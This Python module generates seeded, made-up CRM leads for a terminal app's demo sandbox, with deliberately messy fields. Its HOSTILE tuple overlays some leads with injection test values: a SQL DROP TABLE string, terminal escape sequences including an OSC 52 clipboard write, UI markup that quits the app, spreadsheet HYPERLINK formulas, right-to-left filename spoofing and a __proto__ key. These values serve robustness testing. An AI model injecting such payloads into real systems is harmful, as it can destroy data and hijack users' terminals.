"""Made-up leads: the same ones in each run, with everything a real project's leads have and lack.

Fields are missing or null, numbers are sometimes text, whole imports share one moment, and a few people's names were
written by somebody who wished us ill.
"""

import random
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any, TypeVar

from segtui.sandbox.names import Name, Place, places
from segtui.sandbox.tiledesk.documents import Document, written

DEMO_NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
"""The latest moment in the demo's data, so that dates look recent and never change."""

SPRING_IMPORT = "2026-04-14T08:30:00.000Z"
"""When many leads were imported in one go; they share this moment to the millisecond."""

_SHOP_IMPORT = "2025-02-03T10:15:00.000Z"
_FAIR_IMPORT = "2026-09-29T16:05:00.000Z"
_IMPORTS = dict.fromkeys((3, 4, 5, 6), _SHOP_IMPORT) | {11: SPRING_IMPORT, 12: SPRING_IMPORT, 17: _FAIR_IMPORT}
"""Which leads of each twenty came with an import."""

_SPAN = timedelta(days=730)
_TEMPORARY_EVERY, _DELETED_EVERY = 250, 311
_HOSTILE_EVERY, _FIRST_HOSTILE = 29, 11
"""Every so many leads from the newest on."""

_PLANS = ("free",) * 58 + ("pro",) * 24 + ("team",) * 11 + ("enterprise",) * 4 + (None,) * 3
_SOURCES = ("website",) * 5 + ("whatsapp",) * 2 + ("referral", "fair")
_COMPANIES = (
    "Acme Logistics", "Bar Sport", "Blaubär GmbH", "Café Lumière", "Dolce Vita Srl", "Fjord & Søn",
    "Horizon Travel", "Iberia Textil", "Kowalski Meble", "Lumen Studio", "Müller & Söhne", "North Sea Foods",
    "Optica Madrid", "Pasticceria Conti", "Quill Books", "Rossi Auto", "Studio Zen", "Tulip Hotels",
)  # fmt: skip
_NOTES = (
    "Asked for an invoice twice.", "Prefers to be called after 17:00.", "Met at the Bologna fair.",
    "Wants a discount for schools :(", "Speaks English and French.", "Order arrived damaged, sent a new one.",
    "Moved house in spring, check the address.", "Very happy with the delivery :)", "Writes from two addresses.",
)  # fmt: skip
_TAGS = (
    ("newsletter",) * 9 + ("trial",) * 4 + ("vip", "Webinar May", "beta") * 2
    + ("wholesale", "do-not-call", "complained", "press", "VIP", "event-2026", "partner")
)  # fmt: skip
_TAG_COUNTS = (0,) * 9 + (1,) * 6 + (2,) * 3 + (3, 4)
_MANAGERS = ("Chiara Conti", "Theo Marsh", "Noah Berg")

HOSTILE: tuple[Document, ...] = (
    {"fullname": "Nina Nanà", "note": "na" * 9_999 + "!?"},
    {"fullname": "[/red] VIP", "company": "[bold red]Rossi[/bold red]"},
    {"fullname": "[@click=app.quit]Jane[/]", "tags": ["[reverse]vip[/]", "vip"]},
    {"fullname": "\x1b]52;c;aGVsbG8=\x07Marco Polo", "city": "\x1b[2JRome"},
    {"fullname": "\x1b[31mRed\x1b[0m Alert", "note": "\x9b1;31mbell\x07\x08\x08"},
    {"fullname": "\u202egnp.exe Ann", "email": "ann\u202emoc.elpmaxe@example.com"},
    {"fullname": "Zero\u200bWidth\u2060Jo\ufeffiner", "city": "Ro\u00adme"},
    {"fullname": '=HYPERLINK("http://example.invalid/?x="&A1,"Click me")', "note": "+1+1", "company": "@SUM(A1:A9)"},
    {"fullname": "Two\nLines\r\nof\tName", "streetAddress": "Via Roma 1\nScala B"},
    {"fullname": "", "email": "", "phone": None},
    {"fullname": "👩‍👩‍👧‍👦 Família 🇮🇹", "company": "a" * 300},
    {
        "fullname": "Robert'); DROP TABLE leads;--",
        "attributes": {"plan": "pro", "seats": "many", "__proto__": {"x": 1}},
    },
    {"fullname": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "attributes": "a text, not an object"},
)
"""What is laid over some of the newest leads. The first one's note is what an explosive pattern explodes on."""

_T = TypeVar("_T")


class _Draw:
    """Chance, as short as thousands of leads within a start need it."""

    def __init__(self, seed: int) -> None:
        self.chance: Callable[[], float] = random.Random(seed).random  # noqa: S311 - made-up people, no secret

    def one(self, choices: Sequence[_T]) -> _T:
        """Pick one."""
        return choices[int(self.chance() * len(choices))]

    def number(self, start: int, stop: int) -> int:
        """Pick a whole number, the last one excluded."""
        return start + int(self.chance() * (stop - start))

    def sometimes(self, share: float) -> bool:
        """Say yes in that share of all cases."""
        return self.chance() < share


def made_leads(count: int, *, project_id: str, created_by: str, seed: int) -> list[Document]:
    """Make leads.

    Args:
        count: How many, the deleted, temporary and hostile ones included.
        project_id: Whose they are.
        created_by: The author's id.
        seed: Another one gives other people.
    """
    draw = _Draw(seed)
    homes = places()
    leads = []
    for index in range(count):
        imported = _IMPORTS.get(index % 20)
        created = DEMO_NOW - _SPAN * (1 - (index + draw.chance()) / count)
        lead = _person(draw, draw.one(homes), index, is_imported=imported is not None)
        created_at = imported or written(created)
        lead["status"] = _status(index)
        lead["id_project"] = project_id
        lead["createdBy"] = created_by
        lead["createdAt"] = created_at
        changed = created + (DEMO_NOW - created) * draw.chance()
        lead["updatedAt"] = created_at if draw.sometimes(0.4) else max(created_at, written(changed))
        lead["_id"] = f"{int(created.timestamp()):08x}{seed:02x}c3a97d51{index:06x}"
        lead["__v"] = 0
        leads.append(lead)
    newest_first = leads[::-1]
    for overlay, lead in zip(HOSTILE, newest_first[_FIRST_HOSTILE::_HOSTILE_EVERY], strict=False):
        lead.update(overlay)
    return leads


def _status(index: int) -> int:
    if index % _DELETED_EVERY == 100:  # noqa: PLR2004 - any place in the row will do
        return 1000
    return 50 if index % _TEMPORARY_EVERY == 77 else 100  # noqa: PLR2004 - as above


def _person(draw: _Draw, home: Place, index: int, *, is_imported: bool) -> Document:
    given, family = draw.one(home.given), draw.one(home.family)
    lead: Document = {
        "lead_id": f"crm-{10_000 + index}" if is_imported else f"{draw.number(0, 1 << 48):012x}-{index:04x}",
        "fullname": f"{family.written}{given.written}" if home.is_family_first else f"{given.written} {family.written}",
    }
    lead |= _reachable(draw, home, given, family)
    if draw.sometimes(0.94):
        lead["country"] = home.country
        lead["city"] = draw.one(home.cities) if draw.sometimes(0.97) else None
    if draw.sometimes(0.55):
        lead["streetAddress"] = draw.one(home.streets).format(draw.number(1, 180))
        lead["zipcode"] = f"{draw.number(10_000, 99_999):05}"
    if draw.sometimes(0.3):
        lead["company"] = draw.one(_COMPANIES)
    if draw.sometimes(0.12):
        lead["note"] = draw.one(_NOTES)
    lead["tags"] = list(dict.fromkeys(draw.one(_TAGS) for _ in range(draw.one(_TAG_COUNTS))))
    lead["attributes"] = _attributes(draw, home)
    if draw.sometimes(0.4):
        lead["properties"] = _properties(draw)
    return lead


def _reachable(draw: _Draw, home: Place, given: Name, family: Name) -> Document:
    """Make up an e-mail and a phone; each may be missing or null."""
    contact: Document = {}
    if draw.sometimes(0.88):
        domain = "gmail.com" if draw.sometimes(0.4) else draw.one((home.domain, "example.com", "example.org"))
        number = str(draw.number(1, 99)) if draw.sometimes(0.5) else ""
        contact["email"] = f"{given.latin}.{family.latin}{number}@{domain}" if draw.sometimes(0.96) else None
    if draw.sometimes(0.9):
        contact["phone"] = f"{home.phone}{draw.number(10_000_000, 99_999_999)}" if draw.sometimes(0.5) else None
    return contact


def _attributes(draw: _Draw, home: Place) -> Document:
    plan = draw.one(_PLANS)
    attributes: Document = {"source": draw.one(_SOURCES), "newsletter": draw.sometimes(0.45)}
    if plan is not None:
        attributes["plan"] = plan
    if plan in ("pro", "team", "enterprise"):
        attributes["seats"] = _number_or_text(draw, draw.one((1, 2, 3, 5, 5, 8, 10, 10, 12, 20, 25, 50, 120)))
    if plan == "pro" and draw.sometimes(0.3):
        attributes["trial_ends"] = f"2026-{draw.one(('10', '11', '12'))}-{draw.number(1, 29):02}"
    if draw.sometimes(0.85):
        attributes["score"] = _number_or_text(draw, draw.number(0, 101)) if draw.sometimes(0.95) else None
    if draw.sometimes(0.65):
        attributes["last_conversation"] = (
            f"2026-{draw.number(1, 12):02}-{draw.number(1, 29):02}T{draw.number(7, 20):02}:15:00Z"
        )
    if draw.sometimes(0.45):
        attributes["shop"] = _shopping(draw)
    if draw.sometimes(0.5):
        attributes["languages"] = (
            [home.language, "en"] if home.language != "en" and draw.sometimes(0.5) else [home.language]
        )
    if draw.sometimes(0.12):
        attributes["addresses"] = [{"kind": kind, "city": draw.one(home.cities)} for kind in ("billing", "delivery")]
    return attributes


def _number_or_text(draw: _Draw, number: int) -> int | str:
    """Write a number, in one of eight cases as text, as forms do."""
    return str(number) if draw.sometimes(0.12) else number


def _shopping(draw: _Draw) -> Document:
    orders = draw.number(1, 14)
    return {
        "last_order": f"2026-{draw.number(1, 12):02}-{draw.number(1, 29):02}",
        "orders": orders,
        "total": round(orders * (8 + draw.chance() * 70), 2),
    }


def _properties(draw: _Draw) -> dict[str, Any]:
    properties: dict[str, Any] = {"account_manager": draw.one(_MANAGERS)}
    if draw.sometimes(0.5):
        properties["shoe_size"] = str(draw.number(35, 47))
    if draw.sometimes(0.3):
        properties["birthday"] = f"{draw.number(1950, 2006)}-{draw.number(1, 13):02}-{draw.number(1, 29):02}"
    if draw.sometimes(0.25):
        properties["contract_value"] = draw.number(5, 400) * 100
    return properties
